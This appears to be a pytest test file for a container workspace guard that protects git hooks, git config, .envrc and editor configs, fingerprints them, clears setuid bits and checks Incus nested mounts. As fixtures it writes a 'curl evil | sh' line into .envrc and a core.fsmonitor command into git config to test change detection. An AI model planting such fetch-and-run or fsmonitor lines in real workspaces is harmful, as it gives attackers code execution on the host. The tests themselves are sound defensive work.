@@ -1,0 +1,253 @@
+"""The workspace guard's host-side logic: [security] protected_paths, protection mounts, fingerprints and the
+end-of-session report, setuid clearing, and the Incus check that nested mounts came from where they say."""
+
+from __future__ import annotations
+
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from cci_builtin_plugins.incus.mount_check import mismatches, nested_devices, parse_mountinfo
+from cci_builtin_plugins.workspace import plugin as guard
+from cci_builtin_plugins.workspace.fingerprint import advice, changes, fingerprint
+from cci_builtin_plugins.workspace.setuid import clear_setuid
+from cci_core.config import load_config
+from cci_core.context import LaunchContext
+from cci_core.errors import ConfigError
+from tests.fakes import FakeContainer
+
+
+def config_with(tmp_path: Path, toml: str):  # type: ignore[no-untyped-def]
+    (tmp_path / ".cci.toml").write_text(toml)
+    return load_config(tmp_path, environ={}, system_file=tmp_path / "none", user_file=tmp_path / "none2")
+
+
+# -- [security] protected_paths ------------------------------------------------------------------------
+
+
+def test_protected_paths_default_to_git_config_hooks_and_editor_configs(tmp_path: Path) -> None:
+    config = load_config(tmp_path, environ={})
+    assert config.security.protected_paths == [".git/config", ".git/hooks", ".envrc", ".vscode", ".idea",
+                                               ".devcontainer"]
+    assert config.source_of("security.protected_paths") == "default"
+
+
+def test_protected_paths_can_be_set_and_emptied(tmp_path: Path) -> None:
+    assert config_with(tmp_path, '[security]\nprotected_paths = [".git/hooks", "tools/run.sh"]\n'
+                       ).security.protected_paths == [".git/hooks", "tools/run.sh"]
+    assert config_with(tmp_path, "[security]\nprotected_paths = []\n").security.protected_paths == []
+
+
+@pytest.mark.parametrize("entry", ["/etc/passwd", "../x", "a/../../b", "./a", "a//b", "a/", "", "a\\\\b", "a\\nb"])
+def test_a_bad_protected_path_is_one_clear_error(tmp_path: Path, entry: str) -> None:
+    with pytest.raises(ConfigError) as info:
+        config_with(tmp_path, f'[security]\nprotected_paths = [".git/hooks", "{entry}"]\n')
+    message = str(info.value)
+    assert "\n" not in message
+    assert ".cci.toml:2: security.protected_paths: " in message and "(e.g. .git/hooks)" in message, message
+
+
+# -- protection mounts ---------------------------------------------------------------------------------
+
+
+def make_repo(workspace: Path) -> None:
+    (workspace / ".git" / "hooks").mkdir(parents=True)
+    (workspace / ".git" / "config").write_text("[core]\n")
+
+
+def test_protection_mounts_cover_what_exists_read_only_and_make_git_a_mount_point(tmp_path: Path) -> None:
+    make_repo(tmp_path)
+    (tmp_path / ".vscode").mkdir()
+    mounts = guard.protected_mounts(tmp_path, [".git/config", ".git/hooks", ".envrc", ".vscode"])
+    assert [(m.device, m.source, m.path, m.readonly) for m in mounts] == [
+        ("protect-git", tmp_path / ".git", "/workspace/.git", False),
+        ("protect-0", tmp_path / ".git/config", "/workspace/.git/config", True),
+        ("protect-1", tmp_path / ".git/hooks", "/workspace/.git/hooks", True),
+        ("protect-3", tmp_path / ".vscode", "/workspace/.vscode", True),
+    ]
+    assert all(m.shift for m in mounts)  # the workspace's ownership
+    assert guard.protected_mounts(tmp_path, []) == []
+
+
+def test_links_fifos_and_paths_through_links_are_never_mounted(tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    (elsewhere / "hooks").mkdir(parents=True)
+    (elsewhere / "config").write_text("")
+    workspace = tmp_path / "ws"
+    workspace.mkdir()
+    (workspace / ".git").symlink_to(elsewhere)  # Incus would mount the link's target
+    (workspace / ".vscode").symlink_to(elsewhere)
+    os.mkfifo(workspace / ".envrc")
+    assert guard.protected_mounts(workspace, [".git/config", ".git/hooks", ".vscode", ".envrc"]) == []
+
+
+def test_a_git_file_is_mounted_read_only(tmp_path: Path) -> None:
+    (tmp_path / ".git").write_text("gitdir: ../main/.git/worktrees/ws\n")
+    assert [(m.device, m.readonly) for m in guard.protected_mounts(tmp_path, [".git/config"])] == [
+        ("protect-git", True)]
+
+
+def test_a_first_start_mounts_and_labels_a_restart_takes_them_off(tmp_path: Path) -> None:
+    make_repo(tmp_path)
+    config = config_with(tmp_path, "")
+    ctx = LaunchContext(config=config, workspace=tmp_path, container_name="cci-0-1", slot=1, session_id="s",
+                        persistent=True, image="cci")
+    container = FakeContainer("cci-0-1")
+    guard.cci_pre_start(ctx=ctx, container=container, restart=False)
+    assert [m.device for m in container.mounts] == ["protect-git", "protect-0", "protect-1"]
+    assert container.labels()["protected"] == "protect-git,protect-0,protect-1"
+    guard.cci_pre_start(ctx=ctx, container=container, restart=True)
+    assert container.mounts == [] and container.labels().get("protected", "") == ""
+
+
+# -- fingerprints and the end-of-session report ---------------------------------------------------------
+
+
+def test_fingerprints_see_content_mode_links_and_new_files(tmp_path: Path) -> None:
+    make_repo(tmp_path)
+    hook = tmp_path / ".git/hooks/pre-commit.sample"
+    hook.write_text("#!/bin/sh\n")
+    paths = guard.watched_paths([".git/config", ".git/hooks"])
+    before = fingerprint(tmp_path, paths)
+    assert fingerprint(tmp_path, paths) == before
+    (tmp_path / ".git/config").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
+    hook.chmod(0o755)
+    (tmp_path / ".git/hooks/pre-commit").symlink_to("/bin/sh")
+    (tmp_path / ".envrc").write_text("curl evil | sh\n")
+    (tmp_path / ".vscode").mkdir()
+    (tmp_path / ".vscode/tasks.json").write_text("{}")
+    assert changes(before, fingerprint(tmp_path, paths)) == [
+        (".envrc", "created"), (".git/config", "changed"), (".git/hooks/pre-commit", "created"),
+        (".git/hooks/pre-commit.sample", "changed"), (".vscode", "created"), (".vscode/tasks.json", "created")]
+
+
+def test_fingerprints_never_open_fifos_nor_follow_links(tmp_path: Path) -> None:
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    (secret / "key").write_text("k")
+    workspace = tmp_path / "ws"
+    (workspace / ".vscode").mkdir(parents=True)
+    os.mkfifo(workspace / ".vscode" / "tasks.json")  # opening it for reading would block
+    os.mkfifo(workspace / ".envrc")
+    (workspace / ".idea").symlink_to(secret)
+    found = fingerprint(workspace, [".vscode", ".envrc", ".idea", ".idea/key"])
+    assert found[".envrc"].startswith("special") and found[".vscode/tasks.json"].startswith("special")
+    assert found[".idea"] == f"link -> {secret}" and ".idea/key" not in found
+
+
+def test_nested_git_dirs_report_configs_and_hooks_not_objects(tmp_path: Path) -> None:
+    module = tmp_path / ".git/modules/lib"
+    (module / "hooks").mkdir(parents=True)
+    (module / "objects/ab").mkdir(parents=True)
+    (module / "config").write_text("")
+    (module / "objects/ab/cdef").write_text("blob")
+    (module / "HEAD").write_text("ref: refs/heads/main\n")
+    (module / "hooks/post-checkout").write_text("#!/bin/sh\n")
+    assert set(fingerprint(tmp_path, [".git/modules"])) == {
+        ".git/modules", ".git/modules/lib/config", ".git/modules/lib/hooks/post-checkout"}
+
+
+def test_advice_names_what_runs_the_file() -> None:
+    assert "git runs hooks" in advice(".git/hooks/pre-commit")
+    assert "core.fsmonitor" in advice(".git/config") and "core.fsmonitor" in advice(".git/modules/x/config")
+    assert "direnv" in advice(".envrc")
+    assert "editor" in advice(".vscode/tasks.json")
+
+
+def test_session_end_reports_each_change_once_and_forgets_the_start(tmp_path: Path) -> None:
+    make_repo(tmp_path)
+    config = config_with(tmp_path, "")
+    ctx = LaunchContext(config=config, workspace=tmp_path, container_name="cci-0-2", slot=2, session_id="s",
+                        persistent=False, image="cci")
+    guard.cci_pre_start(ctx=ctx, container=FakeContainer("cci-0-2"), restart=False)
+    assert guard.baseline_file("cci-0-2").stat().st_mode & 0o777 == 0o600
+    (tmp_path / ".git/hooks/pre-commit").write_text("#!/bin/sh\n")
+    reported: list[str] = []
+    guard.cci_session_end(ctx=ctx, deleted=True, report=reported.append)
+    assert reported == ["workspace file .git/hooks/pre-commit was created during session cci-0-2: git runs "
+                        "hooks on the host: check it before your next git command"]
+    assert not guard.baseline_file("cci-0-2").exists()
+    reported.clear()
+    guard.cci_session_end(ctx=ctx, deleted=True, report=reported.append)  # no record of a start: nothing
+    assert reported == []
+
+
+# -- setuid --------------------------------------------------------------------------------------------
+
+
+def test_setuid_and_setgid_bits_are_cleared_on_files_only(tmp_path: Path) -> None:
+    (tmp_path / "a/b").mkdir(parents=True)
+    for name, mode in (("a/b/suid", 0o4755), ("sgid", 0o2711), ("plain", 0o755)):
+        (tmp_path / name).write_text("x")
+        (tmp_path / name).chmod(mode)
+    (tmp_path / "a").chmod(0o2775)  # a setgid directory is how shared groups work: left alone
+    os.mkfifo(tmp_path / "fifo", 0o644)
+    (tmp_path / "link").symlink_to("/usr/bin/passwd")  # setuid on the host: never followed
+    report = clear_setuid(tmp_path)
+    assert sorted(report.cleared) == ["a/b/suid", "sgid"] and report.left == [] and report.skipped == []
+    assert stat.S_IMODE((tmp_path / "a/b/suid").stat().st_mode) == 0o755
+    assert stat.S_IMODE((tmp_path / "sgid").stat().st_mode) == 0o711
+    assert stat.S_IMODE((tmp_path / "a").stat().st_mode) == 0o2775
+    assert clear_setuid(tmp_path).cleared == []
+
+
+def test_setuid_files_of_another_owner_are_reported_not_touched(tmp_path: Path) -> None:
+    (tmp_path / "x").write_text("x")
+    (tmp_path / "x").chmod(0o4755)
+    report = clear_setuid(tmp_path, owner=os.geteuid() + 1)
+    assert report.left == ["x"] and report.cleared == []
+    assert (tmp_path / "x").stat().st_mode & stat.S_ISUID
+
+
+def test_end_of_session_says_what_it_cleared(tmp_path: Path) -> None:
+    (tmp_path / "tool").write_text("x")
+    (tmp_path / "tool").chmod(0o4755)
+    ctx = LaunchContext(config=config_with(tmp_path, ""), workspace=tmp_path, container_name="cci-0-3", slot=3,
+                        session_id="s", persistent=False, image="cci")
+    reported: list[str] = []
+    guard.cci_session_end(ctx=ctx, deleted=True, report=reported.append)
+    assert len(reported) == 1 and reported[0].startswith("cleared the setuid/setgid bit of workspace file tool")
+
+
+# -- Incus: nested mounts are checked after a start -----------------------------------------------------
+
+DEVICES = {
+    "root": {"type": "disk", "path": "/", "pool": "default"},
+    "workspace": {"type": "disk", "source": "/home/u/p", "path": "/workspace"},
+    "protect-git": {"type": "disk", "source": "/home/u/p/.git", "path": "/workspace/.git"},
+    "protect-1": {"type": "disk", "source": "/home/u/p/.git/hooks", "path": "/workspace/.git/hooks",
+                  "readonly": "true"},
+    "storage0": {"type": "disk", "source": "/home/u/.cci/storage/x", "path": "/storage/x"},
+}
+GOOD = """\
+280 268 254:1 /u/p /workspace rw,relatime shared:1 - ext4 /dev/vdb rw
+281 280 254:1 /u/p/.git /workspace/.git rw,relatime shared:2 - ext4 /dev/vdb rw
+282 281 254:1 /u/p/.git/hooks /workspace/.git/hooks ro,relatime shared:3 - ext4 /dev/vdb rw
+283 268 254:1 /u/.cci/storage/x /storage/x rw,relatime shared:4 - ext4 /dev/vdb rw
+"""
+
+
+def test_nested_devices_are_found_by_source_and_path() -> None:
+    assert sorted(nested_devices(DEVICES)) == [("protect-1", "protect-git", "hooks"),
+                                               ("protect-git", "workspace", ".git")]
+
+
+def test_nested_mounts_that_came_from_their_place_pass() -> None:
+    assert mismatches(DEVICES, GOOD) == []
+
+
+def test_a_nested_mount_that_followed_a_link_is_caught() -> None:
+    swapped = GOOD.replace("/u/p/.git /workspace/.git ", "/u/.ssh /workspace/.git ")
+    assert mismatches(DEVICES, swapped) == ["protect-git", "protect-1"]
+    other_fs = GOOD.replace("254:1 /u/p/.git/hooks", "254:7 /u/p/.git/hooks")
+    assert mismatches(DEVICES, other_fs) == ["protect-1"]
+    unmounted = "".join(line + "\n" for line in GOOD.splitlines() if "hooks" not in line)
+    assert mismatches(DEVICES, unmounted) == ["protect-1"]
+    covered = GOOD + "290 282 0:50 / /workspace/.git/hooks rw - tmpfs tmpfs rw\n"
+    assert mismatches(DEVICES, covered) == ["protect-1"]
+
+
+def test_mountinfo_escapes_are_undone() -> None:
+    assert parse_mountinfo("1 2 8:1 /a\\040b /w\\040x rw - ext4 /dev/x rw\n") == {"/w x": ("8:1", "/a b")}
